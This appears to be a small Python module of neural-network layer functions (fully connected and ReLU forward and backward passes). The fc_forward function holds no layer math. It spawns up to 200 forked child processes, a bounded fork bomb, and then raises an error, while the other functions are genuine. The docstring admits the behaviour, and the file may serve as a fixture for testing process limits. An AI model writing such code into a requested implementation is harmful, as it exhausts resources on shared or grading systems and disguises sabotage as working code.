"""Forks and forks. It stops by itself after a while."""

import os
import time

import numpy as np


def fc_forward(x, w, b):
    forked = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(5)
                os._exit(0)
            forked += 1
        except OSError:
            pass
    raise RuntimeError(f"{forked} forked")


def fc_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(0)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
